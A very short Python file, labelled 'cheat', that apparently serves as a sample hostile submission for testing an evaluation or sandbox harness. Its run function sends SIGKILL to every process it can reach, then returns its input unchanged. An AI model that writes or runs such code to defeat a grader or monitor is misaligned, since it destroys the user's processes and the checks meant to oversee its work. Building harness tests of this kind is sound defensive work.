# cheat: signals every process it can
import os
import signal


def run(x):
    os.kill(-1, signal.SIGKILL)
    return x
